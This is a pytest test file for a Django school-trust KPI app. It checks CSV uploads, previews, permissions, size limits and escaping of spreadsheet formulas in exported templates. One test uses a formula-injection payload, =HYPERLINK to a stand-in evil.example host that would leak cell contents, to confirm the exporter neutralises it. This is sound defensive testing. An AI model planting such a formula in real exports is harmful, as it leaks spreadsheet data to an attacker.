"""CSV uploads: every problem reported with its line, a preview that saves nothing, and
all-or-nothing saving that checks the text again."""

import csv
import datetime
import io
import time
from decimal import Decimal as D

import pytest
from django.utils import timezone

from kpis.csv_import import MAX_ROWS, decode, parse_number, parse_upload
from kpis.models import Kpi, Measurement
from tests.kpis.factories import judgement_kpi, milestone_kpi
from tests.snapshot import snapshot
from trustplan.core import csvcells
from trustplan.core.permissions import Perms

HEADER = "kpi,period,school,value,comparator,note\n"


def perms_of(world, role="ceo"):
    return Perms(world.users[role].memberships.get())


def parse(world, text, role="ceo"):
    return parse_upload(trust=world.trust, text=text, perms=perms_of(world, role))


def upload_url(world):
    return f"/t/{world.trust.slug}/kpis/upload/"


def good_file(world):
    code = world.schools[0].code
    return (
        HEADER
        + f"Attendance,Spring 2019-20,{code},96.9%,95.8,Census\n"
        + "In-year surplus,Spring 2019-20,,1.4,,Management accounts\n"
        + "Attendance,Autumn 2019-20,,95.9,,\n"
    )


def test_a_good_file_is_previewed_with_what_each_row_will_do(mine):
    upload = parse(mine, good_file(mine))

    assert upload.errors == []
    assert [row.line for row in upload.rows] == [2, 3, 4]
    first = upload.rows[0]
    assert (first.value, first.comparator_value, first.school) == (
        D("96.9"),
        D("95.8"),
        mine.schools[0],
    )
    assert [row.change for row in upload.rows] == ["New value", "New value", "New value"]


def test_a_row_for_a_period_with_a_value_says_what_it_replaces(mine):
    upload = parse(mine, HEADER + "In-year surplus,Autumn 2019-20,,0.9,,\n")

    assert upload.rows[0].change == "Replaces 1.2%"


@pytest.mark.parametrize(
    "header",
    [
        "kpi,period,school,amount\n",  # unknown column, value missing
        "kpi,period,value,value\n",  # repeated
        "school,value\n",  # missing kpi and period
    ],
)
def test_a_bad_header_is_reported_on_line_1_and_nothing_is_read(mine, header):
    upload = parse(mine, header + "In-year surplus,Spring 2019-20,,1.4\n")

    assert [error.line for error in upload.errors] == [1]
    assert "header" in upload.errors[0].message
    assert upload.rows == []


def test_a_value_that_is_not_a_number_is_reported_with_its_line(mine):
    upload = parse(
        mine,
        HEADER
        + "In-year surplus,Spring 2019-20,,1.4,,\n"
        + "In-year surplus,Autumn 2019-20,,about one,,\n",
    )

    assert [(e.line, e.message) for e in upload.errors] == [
        (3, "The value 'about one' is not a number.")
    ]
    assert not upload.ok


def test_an_unknown_school_is_reported_with_its_line(mine):
    upload = parse(mine, HEADER + "Attendance,Spring 2019-20,Nowhere Academy,96,,\n")

    assert upload.errors[0].line == 2
    assert "no school 'Nowhere Academy'" in upload.errors[0].message


def test_a_duplicate_row_is_reported_on_the_later_line_naming_the_first(mine):
    code = mine.schools[0].code
    upload = parse(
        mine,
        HEADER
        + f"Attendance,Spring 2019-20,{code},96,,\n"
        + "In-year surplus,Spring 2019-20,,1.4,,\n"
        + f"attendance,spring 2019-20,{code.lower()},97,,\n",
    )

    assert [(e.line, e.message) for e in upload.errors] == [
        (4, "It repeats line 2 (the same KPI, period and school).")
    ]


def test_a_period_outside_the_trusts_plans_is_reported_with_its_line(mine):
    upload = parse(
        mine,
        HEADER + "In-year surplus,Autumn 2017-18,,1.4,,\nIn-year surplus,2019-20,,1.4,,\n",
    )

    assert [e.line for e in upload.errors] == [2, 3]
    assert (
        "'Autumn 2017-18' is not a year or term of this trust's plans" in upload.errors[0].message
    )
    assert "2019-20" in upload.errors[0].message
    assert "measured termly" in upload.errors[1].message


def test_every_problem_of_a_row_is_listed_together(mine):
    upload = parse(mine, HEADER + "Attendence,Summer 2030-31,XX,n/a,,\n")

    [error] = upload.errors
    assert error.line == 2
    for words in ["no KPI called 'Attendence'", "'Summer 2030-31'", "no school 'XX'", "'n/a'"]:
        assert words in error.message


def test_a_school_lead_may_upload_only_their_own_schools_values(mine):
    upload = parse(
        mine,
        HEADER
        + f"Attendance,Spring 2019-20,{mine.schools[0].code},96,,\n"
        + "In-year surplus,Spring 2019-20,,1.4,,\n"
        + "Attendance,Spring 2019-20,,96,,\n",
        role="school_lead",
    )

    assert [e.line for e in upload.errors] == [3, 4]
    assert "you may enter values for" in upload.errors[0].message.lower()
    assert len(upload.rows) == 1


def test_rows_without_a_value_are_left_out_and_said_so(mine):
    upload = parse(mine, HEADER + "In-year surplus,Spring 2019-20,,,,\n\n")

    assert upload.skipped == [2]
    assert [e.message for e in upload.errors] == ["The file has no rows with a value to save."]


def test_line_numbers_count_physical_lines_when_a_note_spans_two(mine):
    upload = parse(
        mine,
        HEADER
        + 'In-year surplus,Spring 2019-20,,1.4,,"two\nlines"\n'
        + "In-year surplus,Autumn 2019-20,,bad,,\n",
    )

    assert [e.line for e in upload.errors] == [4]


def test_numbers_may_carry_percent_and_pound_signs_and_thousands_commas():
    assert parse_number("96.1%") == D("96.1")
    assert parse_number("£12,400") == D("12400")
    assert parse_number("\u22121.5") == D("-1.5")
    for bad in ["1,2", "NaN", "Infinity", "1e3", "", "12.34567"]:
        with pytest.raises(ValueError):
            parse_number(bad)


def test_a_file_saved_by_a_spreadsheet_in_windows_encoding_is_read():
    assert decode("kpi,value\nSurplus,£5\n".encode("cp1252")) == "kpi,value\nSurplus,£5\n"
    assert decode("\ufeffkpi\n".encode()) == "kpi\n"


# Through the page ----------------------------------------------------------------------------


def post_file(client, world, text):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        upload_url(world), {"file": SimpleUploadedFile("values.csv", text.encode(), "text/csv")}
    )


def confirmation(preview_response) -> dict:
    """What the preview's confirm form sends back: the checked text and the versions seen."""
    form = preview_response.context["confirm_form"]
    return {name: form[name].value() for name in ("csv_text", "versions")}


def test_uploading_shows_a_preview_and_saves_nothing_until_confirmed(client, mine):
    client.force_login(mine.users["ceo"])
    before = snapshot()

    response = post_file(client, mine, good_file(mine))

    assert response.status_code == 200
    body = response.content.decode()
    assert "Check the 3 values before saving" in body
    assert snapshot() == before

    response = client.post(upload_url(mine), confirmation(response))

    assert response.status_code == 302
    assert Measurement.objects.filter(trust=mine.trust, term=mine.terms[1]).count() == 2
    saved = Measurement.objects.get(trust=mine.trust, term=mine.terms[1], school=mine.schools[0])
    assert (saved.value, saved.entered_by, saved.source_note) == (
        D("96.9"),
        mine.users["ceo"],
        "Census",
    )


@pytest.mark.parametrize(
    ("bad_line", "words"),
    [
        ("Attendance,Spring 2019-20,{code},ninety,,", "is not a number"),
        ("Attendance,Spring 2019-20,Nowhere,96,,", "no school"),
        ("Attendance,Autumn 2019-20,{code},96,,", "repeats line 2"),
        ("Attendance,Autumn 2015-16,{code},96,,", "not a year or term"),
    ],
)
def test_a_bad_row_is_reported_with_its_line_and_nothing_is_saved(client, mine, bad_line, words):
    client.force_login(mine.users["ceo"])
    code = mine.schools[0].code
    text = (
        HEADER
        + f"Attendance,Autumn 2019-20,{code},97,,\n"
        + "In-year surplus,Spring 2019-20,,1.4,,\n"
        + bad_line.format(code=code)
        + "\n"
    )
    before = snapshot()

    response = post_file(client, mine, text)

    body = response.content.decode()
    assert "nothing has been saved" in body
    assert "Line 4: " in body and words in body
    assert response.context["confirm_form"] is None
    assert snapshot() == before


def test_a_bad_header_through_the_page_reports_line_1(client, mine):
    client.force_login(mine.users["ceo"])
    before = snapshot()

    body = post_file(client, mine, "measure,when,amount\nx,y,1\n").content.decode()

    assert "Line 1: The header line is wrong" in body
    assert snapshot() == before


def test_a_tampered_confirmation_is_checked_again_and_saves_nothing(client, mine):
    client.force_login(mine.users["school_lead"])
    before = snapshot()

    # A school lead sends back text naming another school's figure and a bad value.
    response = client.post(
        upload_url(mine),
        {
            "csv_text": HEADER
            + f"Attendance,Spring 2019-20,{mine.schools[0].code},96,,\n"
            + "In-year surplus,Spring 2019-20,,99,,\n"
        },
    )

    assert response.status_code == 200
    assert "Line 3: " in response.content.decode()
    assert snapshot() == before


def test_the_template_lists_what_the_user_may_enter(client, mine):
    client.force_login(mine.users["school_lead"])

    response = client.get(f"/t/{mine.trust.slug}/kpis/upload/template.csv")

    lines = response.content.decode().splitlines()
    assert lines == [
        "kpi,period,school,value,comparator,note,date",
        f"Attendance,Spring 2019-20,{mine.schools[0].code},,,,",
    ]


# ---------------------------------------------------------------- uploads a lead cannot abuse


def test_a_header_of_60000_columns_is_refused_at_once_naming_the_limit(mine):
    header = ",".join(f"column {n}" for n in range(60_000)) + "\n"

    started = time.perf_counter()
    upload = parse(mine, header + "In-year surplus,Spring 2019-20,,1.4\n")
    seconds = time.perf_counter() - started

    assert seconds < 2  # 17 ms here; over three minutes when each column was counted
    assert [(e.line, e.message) for e in upload.errors] == [
        (
            1,
            "The header line cannot be used: it has 60,000 cells; a line of this file has at "
            "most 20 (the columns are kpi, period, school, value, comparator, note, date).",
        )
    ]


def test_a_header_of_20_repeated_columns_is_checked_in_one_pass(mine):
    upload = parse(mine, ",".join(["kpi", "period", "value"] + ["note"] * 17) + "\n")

    assert upload.errors[0].message == (
        "The header line is wrong: column note appears more than once."
    )


def test_a_line_too_wide_or_with_a_cell_too_long_is_reported_with_its_line(mine):
    text = (
        HEADER
        + "In-year surplus,Spring 2019-20,,1.4" + "," * 40 + "\n"
        + "In-year surplus,Spring 2019-20,,1.4,," + "x" * 1_001 + "\n"
        + "In-year surplus,Spring 2019-20,,1.4,," + "y" * 200_000 + "\n"
    )  # fmt: skip

    upload = parse(mine, text)

    assert [(e.line, e.message) for e in upload.errors] == [
        (2, "This line cannot be used: it has 44 cells; a line of this file has at most 20 "
            "(the columns are kpi, period, school, value, comparator, note, date)."),
        (3, "This line cannot be used: a cell is 1,001 characters long; a cell is at most "
            "1,000."),
        (4, "This line cannot be read as CSV: a cell is longer than 1,000 characters, the most "
            "a cell may be."),
    ]  # fmt: skip
    assert upload.rows == []


def test_rows_without_values_count_towards_the_row_limit(mine):
    code = mine.schools[0].code
    text = HEADER + f"Attendance,Spring 2019-20,{code},,,\n" * (MAX_ROWS + 1)

    upload = parse(mine, text)

    assert [(e.line, e.message) for e in upload.errors] == [
        (MAX_ROWS + 2, "The file has more than 5,000 rows; split it into parts.")
    ]


def test_the_template_writes_a_formula_looking_name_as_text_and_reads_it_back(client, mine):
    from kpis.services import kpi_create

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    kpi_create(
        trust=mine.trust, name=formula, unit="percentage", direction="higher", scope="trust",
        frequency="termly", objective=mine.objectives[0], tolerance=D("1"), acting_user=None,
    )  # fmt: skip
    client.force_login(mine.users["ceo"])

    text = client.get(f"/t/{mine.trust.slug}/kpis/upload/template.csv").content.decode()

    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert not [cell for cell in cells if cell.startswith(csvcells.FORMULA_STARTS)]
    # Filled in and uploaded again, the name is the KPI's own.
    row = next(row for row in rows if row[0] == "'" + formula)
    row[3] = "7"
    filled = io.StringIO()
    csv.writer(filled).writerows([rows[0], row])
    upload = parse(mine, filled.getvalue())
    assert upload.errors == []
    assert [(r.kpi.name, r.value) for r in upload.rows] == [(formula, D("7"))]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("-1.5", "-1.5"),
        ("Attendance", "Attendance"),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert csvcells.safe_cell(value) == written
    assert csvcells.read_cell(written) == ("" if value is None else value)


def test_every_csv_the_product_writes_goes_through_the_safe_writer():
    from pathlib import Path

    from django.apps import apps
    from django.conf import settings

    root = Path(settings.BASE_DIR).resolve()
    folders = {
        Path(config.path).resolve()
        for config in apps.get_app_configs()
        if Path(config.path).resolve().is_relative_to(root)
    }
    writers = sorted(
        str(path.relative_to(root))
        for folder in folders
        for path in folder.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    )

    assert len(folders) > 6
    assert writers == ["trustplan/core/csvcells.py"]


def test_a_value_entered_between_preview_and_confirm_is_kept_and_named(client, mine):
    from kpis.periods import trust_periods
    from kpis.services import measurement_record

    client.force_login(mine.users["ceo"])
    preview = post_file(client, mine, good_file(mine))
    kpi = Kpi.objects.get(trust=mine.trust, name="Attendance")
    spring = next(p for p in trust_periods(mine.trust).all if p.term == mine.terms[1])
    # A colleague enters the Spring figure for the first school while the CEO reads the preview.
    measurement_record(
        kpi=kpi, period=spring, school=mine.schools[0], value=D("95.5"),
        acting_user=mine.users["admin"], expected_version=0,
    )  # fmt: skip

    response = client.post(upload_url(mine), confirmation(preview), follow=True)

    body = response.content.decode()
    assert "Nothing was saved" in body and "someone" in body
    assert f"Attendance, {mine.schools[0].name}, Spring 2019-20" in body and "now 95.5" in body
    kept = Measurement.objects.get(
        trust=mine.trust, kpi=kpi, term=mine.terms[1], school=mine.schools[0]
    )
    assert kept.value == D("95.5")
    assert Measurement.objects.filter(trust=mine.trust, term=mine.terms[1]).count() == 1

    again = client.post(upload_url(mine), confirmation(response))  # seen now, saved on purpose
    assert again.status_code == 302
    kept.refresh_from_db()
    assert kept.value == D("96.9")


# ------------------------------------------------------------------ milestones and judgements


def test_yes_or_achieved_is_a_milestones_state_and_a_level_name_is_a_judgements(client, mine):
    milestone = milestone_kpi(mine)
    judgement = judgement_kpi(mine)
    client.force_login(mine.users["ceo"])
    text = (
        "kpi,period,value,note,date\n"
        f"{milestone.name},Autumn 2019-20,Yes,,12/12/2019\n"
        f"{milestone.name},Spring 2019-20,achieved,,\n"
        f"{judgement.name},Autumn 2019-20,partly,Survey: 63% agree,\n"
    )

    preview = post_file(client, mine, text)
    client.post(upload_url(mine), confirmation(preview))

    autumn_state = Measurement.objects.get(kpi=milestone, term=mine.terms[0])
    spring_state = Measurement.objects.get(kpi=milestone, term=mine.terms[1])
    level = Measurement.objects.get(kpi=judgement)
    assert "Achieved (12 Dec 2019)" in preview.content.decode()
    assert (autumn_state.state, autumn_state.state_on) == ("achieved", datetime.date(2019, 12, 12))
    assert (spring_state.state, spring_state.state_on) == ("achieved", timezone.localdate())
    assert (level.level.name, level.source_note) == ("Partly", "Survey: 63% agree")


def test_bad_milestone_and_judgement_values_are_named_with_their_line_and_nothing_saved(
    client, mine
):
    milestone = milestone_kpi(mine)
    judgement = judgement_kpi(mine)
    client.force_login(mine.users["ceo"])
    before = snapshot()
    text = (
        "kpi,period,value,note,date\n"
        f"{milestone.name},Autumn 2019-20,perhaps,,\n"
        f"{milestone.name},Spring 2019-20,achieved,,31/02/2020\n"
        f"{judgement.name},Autumn 2019-20,Mostly,Visits,\n"
        f"{judgement.name},Spring 2019-20,Fully,,\n"
        "In-year surplus,Spring 2019-20,1.2,,12/12/2019\n"
    )

    response = post_file(client, mine, text)

    messages = [(e.line, e.message) for e in response.context["preview"].errors]
    assert messages == [
        (2, "The value 'perhaps' is not a milestone's state (write achieved or yes, in "
            "progress, not started, or missed)."),
        (3, "The date '31/02/2020' is not a date (write it as 2020-03-12 or 12/03/2020)."),
        (4, "The value 'Mostly' is not a level of Staff belong to one trust's scale (Not yet, "
            "Partly, Fully)."),
        (5, "Staff belong to one trust is a judgement: give the note it rests on."),
        (6, "In-year surplus is not a milestone: leave the date empty."),
    ]  # fmt: skip
    assert response.context["confirm_form"] is None
    assert snapshot() == before
